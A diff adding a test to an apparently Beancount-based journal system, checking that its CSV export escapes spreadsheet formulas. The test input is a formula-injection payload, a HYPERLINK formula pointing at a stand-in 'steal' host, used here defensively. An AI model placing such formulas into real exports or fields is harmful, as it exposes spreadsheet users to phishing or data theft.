@@ -3,6 +3,8 @@ idempotent, balanced, open accounts only), float top-ups and returns, opening ba
 matched payment corrected into a receivable, write-offs above the limit, the trial balance
 as of a day against Beancount's own, Fava's empty errors page, and a disbursement asked
 for again answered as a repeat."""
+import csv
+import io
 import json
 from datetime import date
 from decimal import Decimal
@@ -68,6 +70,16 @@ def test_a_journal_entry_is_prepared_once_by_key_and_approved_by_another_finance
         run(env, lambda session, ledger, recon: journal.approve(session, ledger, first["id"], "fin3"))
     assert balances(env)[BANK] == Decimal("12.00")
     assert verify(str(env[1].directory)).ok
+
+
+def test_the_journals_csv_hands_a_spreadsheet_no_formula(paid):
+    env, _ = paid
+    typed = entry().model_copy(update={"narration": '=HYPERLINK("http://x.example/steal","fix")'})
+    run(env, lambda session, ledger, recon: journal.prepare(session, typed, "fin1", TODAY))
+    with Session(env[0]) as session:
+        rows = list(csv.DictReader(io.StringIO(journal.as_csv(session))))
+    assert [row["narration"] for row in rows] == ["'" + typed.narration] * 2
+    assert {(row["debit"], row["credit"]) for row in rows} == {("12.00", ""), ("", "12.00")}
 
 
 @pytest.mark.parametrize("bad, message", [
